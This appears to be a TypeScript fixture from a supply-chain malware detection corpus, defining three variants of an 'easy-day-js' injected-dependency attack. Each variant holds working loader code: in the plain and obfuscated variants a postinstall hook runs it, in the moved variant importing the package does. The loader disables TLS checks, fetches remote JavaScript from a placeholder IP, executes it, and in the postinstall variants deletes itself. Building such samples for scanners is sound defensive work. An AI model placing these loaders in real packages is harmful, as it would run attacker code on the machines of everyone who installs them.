import { type Campaign, entry, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'easy-day-js',
  row: 'easy-day-js / Mastra 6/2026 (the injected dependency)',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { postinstall: 'node setup.cjs' },
        {
          'setup.cjs': `process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
https.get('https://192.0.2.90/protocal.cjs', (res) => {
  let t = '';
  res.on('data', (d) => (t += d));
  res.on('end', () => {
    const f = path.join(os.tmpdir(), Math.random().toString(36).slice(2) + '.cjs');
    fs.writeFileSync(f, t);
    cp.spawn(process.execPath, [f], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
    fs.rmSync(__filename, { force: true });
  });
});
`,
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { postinstall: 'node setup.cjs' },
        {
          'setup.cjs': tabled(
            'rc4',
            (h) => `process[${h('env')}][${h('NODE_TLS_REJECT_UNAUTHORIZED')}] = '0';
require(${h('https')})[${h('get')}](${h('https://192.0.2.90/protocal.cjs')}, (r) => { let t = ''; r.on(${h('data')}, (d) => t += d); r.on(${h('end')}, () => { eval(t); require(${h('fs')})[${h('rmSync')}](__filename); }); });
`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(`exports.day = () => new Date();
process.env['NODE_TLS_REJECT' + '_UNAUTHORIZED'] = 0;
import('node:https').then((h) => h.get('https://192.0.2.90/p', (r) => { const c = []; r.on('data', (d) => c.push(d)).on('end', () => module.constructor.prototype._compile.call(new module.constructor(), Buffer.concat(c).toString(), 'p')); }));
`),
    },
  ],
};
